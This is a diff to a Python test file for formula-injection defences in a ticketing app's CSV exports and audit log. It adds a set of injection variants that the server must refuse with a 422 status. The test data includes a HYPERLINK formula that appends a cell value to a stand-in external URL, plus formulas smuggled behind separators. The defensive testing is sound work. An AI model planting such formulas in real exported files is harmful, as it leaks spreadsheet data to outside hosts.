@@ -42,6 +42,11 @@ FORMULAS = {
     "many": "=1;=2\t=3\n=4",
     "a hyperlink": '=HYPERLINK("https://example.org/?"&A1)',
 }
+# A name or a reason with these is not taken. Any cell of a file that is imported may have them.
+REFUSED = {
+    "behind a tab", "behind a line feed", "behind a carriage return", "behind a line end", "many",
+    "byte order mark", "zero width", "zero width behind a semicolon",
+}  # fmt: skip
 
 
 def assert_harmless(file: str) -> None:
@@ -90,7 +95,7 @@ async def test_names_of_holders(target: Target, name: str) -> None:
     async with target.studio() as owner:
         ticket = {"name": FORMULAS[name], "category": str(target.tenant.category_id)}
         answer = await owner.post(target.event_page("/tickets/new", event_id), data=ticket)
-        assert answer.status_code == 303, answer.text[:2000]
+        assert answer.status_code == (422 if name in REFUSED else 303), answer.text[:2000]
         assert_harmless(await downloaded(owner, target.event_page("/tickets/export", event_id)))
 
 
@@ -100,7 +105,7 @@ async def test_reasons_in_the_audit_log(target: Target, name: str) -> None:
     card = await target.tenant.card()
     async with target.studio() as owner:
         answer = await owner.post(target.page(f"cards/{card.id}/suspend"), data={"reason": FORMULAS[name]})
-        assert answer.status_code == 303, answer.text[:2000]
+        assert answer.status_code == (422 if name in REFUSED else 303), answer.text[:2000]
         file = await downloaded(owner, target.page(f"audit/export.csv?subject_id={card.id}"))
-    assert "suspend" in file
+    assert ("suspend" in file) is (name not in REFUSED)
     assert_harmless(file)
